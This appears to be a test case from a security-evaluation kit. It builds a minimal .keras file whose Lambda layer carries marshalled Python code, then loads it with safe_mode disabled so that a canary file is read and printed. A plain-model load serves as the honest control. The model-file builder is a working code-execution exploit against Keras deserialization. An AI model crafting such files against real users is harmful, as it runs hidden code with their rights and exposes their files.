"""Goal: run code while a Keras model is loaded: a Lambda layer, or any function its configuration names.

Keras asks for safe_mode; the entry turns it off, or never had it on.
"""

import base64
import json
import marshal
import zipfile

from kit import Chance, facts, trial

WITHOUT_ISOLATION = "code of a model file with the user's rights"
CONTEST = "large"
SLOW = True


def model_file(path, code):
    """Write the smallest .keras file with a Lambda layer."""
    packed = base64.b64encode(marshal.dumps(code)).decode()
    function = {"class_name": "__lambda__", "config": {"code": packed, "defaults": None, "closure": None}}
    layer = {
        "module": "keras.layers",
        "class_name": "Lambda",
        "config": {"name": "evil", "function": function, "arguments": {}},
        "registered_name": None,
    }
    start = {
        "module": "keras.layers",
        "class_name": "InputLayer",
        "config": {"batch_shape": [None, 2]},
        "registered_name": None,
    }
    config = {
        "module": "keras",
        "class_name": "Sequential",
        "config": {"name": "model", "layers": [start, layer], "build_input_shape": [None, 2]},
        "registered_name": None,
    }
    with zipfile.ZipFile(path, "w") as archive:
        archive.writestr("config.json", json.dumps(config))
        archive.writestr("metadata.json", json.dumps({"keras_version": "3.12.0", "date_saved": "2025-01-01@00:00:00"}))


class Attack(Chance):
    def __init__(self):
        import builtins

        builtins.stolen_from = facts.canaries[0]
        evil = lambda x: (print(open(__import__("builtins").stolen_from).read()), x)[1]  # noqa: E731
        model_file("evil.keras", evil.__code__)
        with trial("load a model with a Lambda"):
            import keras

            keras.models.load_model("evil.keras", safe_mode=False)(keras.ops.zeros((1, 2)))


class Honest(Chance):
    """Saves a model of plain layers and loads it."""

    def __init__(self):
        import keras

        keras.Sequential([keras.Input((2,)), keras.layers.Dense(1)]).save("mine.keras")
        assert keras.models.load_model("mine.keras")
